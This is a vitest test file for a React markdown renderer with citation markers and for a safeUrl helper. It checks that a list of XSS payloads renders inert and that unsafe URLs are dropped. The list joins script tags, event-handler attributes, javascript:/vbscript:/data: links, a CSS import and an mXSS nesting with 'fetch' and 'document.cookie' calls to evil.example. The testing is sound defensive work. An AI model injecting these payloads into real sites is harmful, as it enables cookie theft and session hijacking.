import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import type { Citation } from "../../api/client";
import { AnswerMarkdown, safeUrl } from "./markdown";

function cited(marker: number, title: string, start_offset = 0): Citation {
  const place = {
    document_id: "d",
    chunk_id: "c",
    uri: "file:///leave.md",
    heading_path: [],
    quote: "",
    score: 1,
  };
  return { ...place, marker, title, start_offset, end_offset: start_offset + 5 };
}

function html(text: string, citations = [cited(1, "Leave")], open: Citation | null = null): HTMLElement {
  const root = document.createElement("div");
  root.innerHTML = renderToStaticMarkup(
    <AnswerMarkdown text={text} citations={citations} open={open} onOpen={() => undefined} />,
  );
  return root;
}

const scripts = ["alert(1)", "fetch('//evil.example')", "document.cookie"];
const shapes = [
  (script: string) => `<script>${script}</script>`,
  (script: string) => `<img src=x onerror="${script}">`,
  (script: string) => `<svg onload="${script}"><circle/></svg>`,
  (script: string) => `<iframe srcdoc="<script>${script}</script>"></iframe>`,
  (script: string) => `<a href="javascript:${script}">x</a>`,
  (script: string) => `[x](javascript:${script})`,
  (script: string) => `[x](JaVaScRiPt:${script})`,
  (script: string) => `[x](data:text/html,<script>${script}</script>)`,
  (script: string) => `[x](vbscript:${script})`,
  (script: string) => `![x](https://evil.example/?${encodeURIComponent(script)})`,
  (script: string) => `![x](data:image/svg+xml,<svg onload=${encodeURIComponent(script)}>)`,
  (script: string) => `<style>@import 'https://evil.example/${encodeURIComponent(script)}'</style>`,
  (script: string) => `<details open ontoggle="${script}">x</details>`,
  (script: string) =>
    `<form action="https://evil.example"><button formaction="javascript:${script}">x</button></form>`,
  (script: string) => `[ref]\n\n[ref]: javascript:${encodeURIComponent(script)}`,
  (script: string) =>
    `<math><mtext></mtext><mglyph><style><img src=x onerror=${script}></style></mglyph></math>`,
];
const payloads = scripts.flatMap((script) => shapes.map((shape) => shape(script)));

describe("AnswerMarkdown", () => {
  it.each(payloads)("renders %s inert", (payload) => {
    for (const text of [
      payload,
      `Yes [1]. ${payload}`,
      `| a |\n|---|\n| ${payload.replaceAll("\n", " ")} |`,
    ]) {
      const root = html(text, [cited(1, payload)]);
      expect(
        root.querySelector("script, img, svg, iframe, style, form, object, embed, link, base, math"),
      ).toBeNull();
      for (const element of root.querySelectorAll("*")) {
        for (const attribute of element.attributes) expect(attribute.name.startsWith("on")).toBe(false);
        const href = element.getAttribute("href");
        if (href !== null) expect(href).toMatch(/^(https?|mailto):/);
      }
    }
  });

  it("makes buttons of known markers and text of unknown ones", () => {
    const root = html("Thirty days [1][7], not `[1]` in code.");
    const buttons = [...root.querySelectorAll("button.marker")];
    expect(buttons.map((button) => button.getAttribute("aria-label"))).toEqual(["1: Leave"]);
    expect(root.textContent).toContain("[7]");
    expect(root.querySelector("code")?.textContent).toBe("[1]");
  });

  it("gives each place of a marker the quote of its own", () => {
    const citations = [cited(1, "Leave", 10), cited(1, "Leave", 40)];
    const pressed = [
      ...html("One [1]. Two [1]. Three [1].", citations, citations[1]).querySelectorAll("button"),
    ].map((button) => button.getAttribute("aria-pressed"));
    expect(pressed).toEqual(["false", "true", "false"]);
  });

  it("takes no marker from a link that the text writes itself", () => {
    const root = html("[read this](citation:1)");
    expect(root.querySelector("button")).toBeNull();
    expect(root.textContent).toContain("read this");
  });

  it("opens links apart and without a referrer", () => {
    const link = html("[x](https://example.org/a)").querySelector("a");
    expect(link?.rel).toContain("noopener");
    expect(link?.rel).toContain("noreferrer");
  });
});

describe("safeUrl", () => {
  it.each(["https://a.example", "http://a.example", "mailto:a@example.org"])("keeps %s", (url) => {
    expect(safeUrl(url)).toBe(url);
  });
  it.each([
    "javascript:x",
    " javascript:x",
    "data:x",
    "//evil.example",
    "/api/v1/auth/logout",
    "file:///etc",
    "",
  ])("drops %s", (url) => {
    expect(safeUrl(url)).toBe("");
  });
});
